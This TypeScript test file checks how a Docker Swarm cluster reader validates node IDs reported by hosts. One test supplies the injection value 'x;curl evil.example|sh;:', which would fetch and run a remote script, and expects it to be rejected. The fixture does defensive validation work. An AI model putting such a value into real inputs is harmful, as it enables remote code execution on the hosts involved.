import { existingHosts } from '../host/origin.ts'
import { expect } from 'chai'
import type { Host } from '../host/host.ts'
import { FakeRemote } from '../remote/fake-remote.ts'
import { findTopology } from '../topology/find-topology.ts'
import { readCluster } from './read-cluster.ts'

const idOf = (name: string): string => name.padEnd(25, '0')
const listOf = "docker node ls --format '{{.ID}} {{.ManagerStatus}}'"
const listed = `${idOf('manager')} Leader\n${idOf('worker1')} \n`

function host(name: string, says: { nodeId?: string; isManager?: boolean } = {}): Host {
  const { nodeId = idOf(name), isManager = name === 'manager' } = says
  const swarm = {
    NodeID: nodeId,
    NodeAddr: '192.168.56.11',
    LocalNodeState: 'active',
    ControlAvailable: isManager,
  }
  return {
    ...{ name, origin: existingHosts, node: { name, role: 'worker', addresses: {} } },
    remote: new FakeRemote(name)
      .answer('{{.ServerVersion}}', `${JSON.stringify(swarm)}\n28.5.2\n6.12.1\n`)
      .answer(listOf, listed),
    underlays: { underlay: { interface: 'eth1', address: '192.168.56.11' } },
  } as unknown as Host
}

const read = (...hosts: Host[]) => readCluster(findTopology('three-node'), hosts)

async function refusal(...hosts: Host[]): Promise<unknown> {
  return read(...hosts).catch((error: unknown) => error)
}

describe('reading a cluster', () => {
  it('takes the nodes that their managers list', async () => {
    const cluster = await read(host('manager'), host('worker1'))
    expect(cluster.nodes.map(({ nodeId, role, advertised }) => [nodeId, role, advertised])).to.deep.equal([
      [idOf('manager'), 'manager', '192.168.56.11'],
      [idOf('worker1'), 'worker', '192.168.56.11'],
    ])
  })

  it('refuses a worker that says a command in place of its id', async () => {
    const error = await refusal(host('manager'), host('worker1', { nodeId: 'x;curl evil.example|sh;:' }))
    expect(error).to.include({ code: 'NOT_AN_IDENTIFIER', host: 'worker1' })
  })

  it('refuses a worker that no manager lists, or that says it is another node', async () => {
    expect(await refusal(host('manager'), host('worker1', { nodeId: idOf('gone') }))).to.include({
      code: 'NODE_NOT_LISTED',
      host: 'worker1',
    })
    const twice = await refusal(
      host('manager'),
      host('worker1'),
      host('worker2', { nodeId: idOf('worker1') }),
    )
    expect(twice).to.have.property('code', 'NODE_NOT_LISTED')
  })

  it('refuses a worker that says it is a manager, also if it was to be asked first', async () => {
    const error = await refusal(host('worker1', { isManager: true }), host('manager'))
    expect(error).to.have.property('code', 'NODE_NOT_LISTED')
  })
})
